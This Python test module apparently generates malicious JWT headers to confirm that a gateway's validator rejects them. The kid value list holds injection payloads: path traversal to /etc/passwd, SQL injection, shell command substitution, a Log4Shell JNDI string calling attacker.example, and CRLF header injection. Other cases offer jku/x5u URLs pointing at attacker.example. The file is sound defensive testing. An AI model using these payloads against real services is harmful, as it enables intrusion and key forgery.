"""Headers that choose a key, bring a key, or change how the token is read."""

from __future__ import annotations

from base64 import b64encode
from typing import TYPE_CHECKING

from tests.integration.gateway_tokens.attack import BAD_SIGNATURE, TOO_LONG, UNKNOWN_KEY, Attack, with_header
from tests.integration.gateway_tokens.token_factory import ALGORITHMS, Signer, good_claims, token

if TYPE_CHECKING:
    from collections.abc import Iterator


def key_ids() -> Iterator[Attack]:
    for kid in (
        "../../../../dev/null",
        "/etc/passwd",
        "file:///dev/null",
        "https://attacker.example/jwks.json",
        "' UNION SELECT 'key' --",
        '"; DROP TABLE data_exhaust_users; --',
        "| cat /etc/passwd",
        "$(id)",
        "${jndi:ldap://attacker.example}",
        "\x00",
        "EdDSA-1\x00",
        "EdDSA-1 ",
        "eddsa-1",
        "RS256-1",
        "EdDSA-1\r\nX-Injected: yes",
        "__class__",
        "k" * 128,
    ):
        yield with_header(f"kid {kid[:40]!r}", UNKNOWN_KEY, kid=kid)
    for value in (None, 0, 1.5, True, [], ["EdDSA-1"], {}, {"EdDSA-1": 1}):
        yield with_header(f"kid {value!r}", "kid: string_type", kid=value)
    yield with_header("kid of nothing", "kid: string_too_short", kid="")
    yield with_header("kid of 129 characters", "kid: string_too_long", kid="k" * 129)
    yield with_header("kid of 4 kB", "kid: string_too_long", kid="k" * 4096)
    yield with_header("kid of 10 kB", TOO_LONG, kid="k" * 10_240)
    yield with_header("kid that is no character", "header is not JSON", kid="\ud800")
    yield Attack(
        "kid names an empty file, signed with nothing",
        BAD_SIGNATURE,
        lambda factory: token(factory.header("HS256", kid="/dev/null"), good_claims("HS256"), Signer("HS256", b"")),
    )


def own_keys() -> Iterator[Attack]:
    """Offer the attacker's key in the header, under the attacker's and under a valid signature."""
    for algorithm in ALGORITHMS[:3]:
        for name in ("jku", "x5u", "jwk", "x5c"):
            for whose in ("attackers", "signers"):
                yield Attack(
                    f"{name}, {algorithm}, signed by the {whose[:-1]}",
                    f"header has {name}",
                    lambda factory, a=algorithm, n=name, w=whose: token(
                        factory.header(a, kid="mine", **{n: offered(n, factory.attackers[a])}),
                        good_claims(a),
                        getattr(factory, w)[a],
                    ),
                )


def offered(name: str, signer: Signer) -> object:
    return {
        "jku": "https://attacker.example/jwks.json",
        "x5u": "https://attacker.example/chain.pem",
        "jwk": {**signer.jwk, "kid": "mine"},
        "x5c": [b64encode(signer.pem).decode()],
    }[name]


def other_readings() -> Iterator[Attack]:
    """Ask, under a valid signature, for another reading of the token."""
    for crit in (["exp"], ["b64"], ["unknown"], [], "exp", None, [1], {"exp": 1}):
        yield with_header(f"crit {crit!r}", "header has crit", crit=crit)
    yield with_header("b64 false, critical", "header has b64, crit", b64=False, crit=["b64"])
    for b64 in (False, True, None, "false"):
        yield with_header(f"b64 {b64!r}", "header has b64", b64=b64)
    yield with_header("compressed", "header has zip", zip="DEF")
    yield with_header("encrypted", "header has enc", enc="A256GCM")
    for cty in ("JWT", "jwt", "application/jwt"):
        yield with_header(f"cty {cty}", "header has cty", cty=cty)
    for typ in ("jwt", "Jwt", "JWT ", "JWT\x00", "JOSE", "JWE", "application/jwt", "dpop+jwt", "logout+jwt", "AT+JWT"):
        yield with_header(f"typ {typ!r}", "typ: literal_error", typ=typ)
    for value in (None, "", 1, True, ["JWT"], {"JWT": 1}):
        yield with_header(f"typ {value!r}", "typ: literal_error", typ=value)
